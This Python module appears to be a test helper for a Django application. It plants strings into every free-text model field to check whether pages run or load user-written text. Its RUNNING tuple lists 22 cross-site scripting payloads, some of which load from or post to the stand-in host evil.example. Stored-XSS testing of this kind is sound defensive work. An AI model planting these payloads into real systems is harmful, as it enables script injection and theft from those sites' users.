"""Texts of one's own in the free text fields of the ground: to see who is shown them, and whether any runs."""

import re
from collections.abc import Callable, Iterator
from typing import Any

from django.apps import apps
from django.db import models
from pghistory.models import Event

from pairing.fields import SealedField
from tests.conventions.field_register import REGISTER

APPS = ("pairing", "households", "visits")
MODELS: dict[str, Any] = {
    model._meta.label: model
    for app in APPS
    for model in apps.get_app_config(app).get_models()
    if not issubclass(model, Event)
}
#: Free text only: a code shows its label, a state its word, a number its mask.
CODED = re.compile(
    r"(type|kind|cause|reason_code|_grade|fact_source|rule|subject|facts|method|state|office|level|status|role|"
    r"relation|certificate|ethnic_group|monitoring_kind|_hmac|_key|field|model|source|language|_code|_account|phone|"
    r"id_number|number|client_id|end_reason|closed_reason|joined_reason|left_reason|education|schooling|labour|"
    r"work_place|illness_insurance|password|username|detail|action|actor|object|initials|title|pinyin|token_hash|"
    r"payload|before|body|sealed|old|new)"
)
#: The places of the state, code lists, and what the application may not change afterwards.
SKIPPED = {"pairing.Area", "pairing.FormerCode", "pairing.Code", "pairing.AuditEvent", "pairing.Grant"}


def free_texts(label: str) -> Iterator[Any]:
    """The columns of a model into which somebody writes in his own words."""
    for name in REGISTER[label]:
        column = MODELS[label]._meta.get_field(name)
        free = isinstance(column, models.CharField | models.TextField) and not column.choices
        if free and not CODED.search(name) and (not isinstance(column, SealedField) or name == "restricted"):
            yield column


def plant(word: Callable[[str, Any], str], household: Any = None) -> None:
    """Write ``word(label, column)`` into each free text of each row, or of the rows around one file."""
    for label in REGISTER:
        if label in SKIPPED:
            continue
        manager = getattr(MODELS[label], "everything", MODELS[label]._default_manager)
        rows = manager.all() if household is None else _around(manager, label, household)
        for row in manager.filter(pk__in=rows.values("pk")):
            for column in free_texts(label):
                setattr(row, column.name, word(label, column))
            row.save()


def _around(manager: Any, label: str, household: Any) -> Any:
    """The rows of one file."""
    if label == "households.Household":
        return manager.filter(pk=household.pk)
    if label == "households.Person":
        return manager.filter(memberships__household=household)
    return manager.filter(household=household) if "household" in REGISTER[label] else manager.none()


#: Twenty-two ways to make a page run a text, load something, or send somewhere. ``evil.example`` is nobody's host.
RUNNING = (
    "<script>alert(1)</script>",
    '"><script>alert(2)</script>',
    "'><img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "</script><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "</title><svg/onload=alert(7)>",
    "<img src=//evil.example/8>",
    "<iframe srcdoc='<script>alert(9)</script>'>",
    "<a href=javascript:alert(10)>x</a>",
    "javascript:alert(11)",
    '" autofocus onfocus=alert(12) x="',
    "' onmouseover=alert(13) style=inset:0 x='",
    "<details open ontoggle=alert(14)>",
    "<base href=//evil.example/15/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/16>",
    "<link rel=stylesheet href=//evil.example/17>",
    "<style>@import'//evil.example/18'</style>",
    "<form action=//evil.example/19><input autofocus>",
    "{{constructor.constructor('alert(20)')()}}",
    "${alert(21)}\\u003cscript\\u003ealert(21)",
    "<!--><svg onload=alert(22)>-->",
)


def running(turn: Iterator[str]) -> Callable[[str, Any], str]:
    """A word for ``plant``: the next text that has room in the column."""

    def word(label: str, column: Any) -> str:
        room = column.max_length or 1_000
        return next(text for text in turn if len(text) <= room)

    return word
